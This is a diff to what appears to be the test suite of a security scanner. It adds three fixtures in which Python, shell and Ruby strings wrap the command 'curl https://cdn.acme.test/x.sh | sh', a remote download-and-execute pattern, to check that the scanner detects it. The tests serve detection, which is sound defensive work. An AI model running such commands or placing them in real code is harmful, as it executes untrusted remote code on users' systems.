@@ -214,6 +214,21 @@ describe('a program in a string', () => {
     ['is read', 'a.rs', `let a = r##"${program}"##;\n`],
     ['is read after one that nothing closes', 'a.R', `a <- r"("\nb <- r"{${program}}"\n`],
     ['is read after one more mark', 'a.ex', `# """\na = """\n${program}"""\n`],
+    [
+      'is read in one line',
+      'a.py',
+      `exec("import os; os.system('curl https://cdn.acme.test/x.sh | sh')")\n`,
+    ],
+    [
+      'is read as words',
+      'a.sh',
+      `printf '%s\\n' 'import os' "os.system('curl https://cdn.acme.test/x.sh | sh')" | python3 -\n`,
+    ],
+    [
+      'is read as values',
+      'a.rb',
+      `S = { a: 'import os', b: "os.system('curl https://cdn.acme.test/x.sh | sh')" }\nrun(S)\n`,
+    ],
   ])('%s', async (_, path, text) => {
     const { findings } = await lookAt(path, text);
     const found = findings.map(({ rule, decoded }) => [rule, ...(decoded?.path ?? [])]);
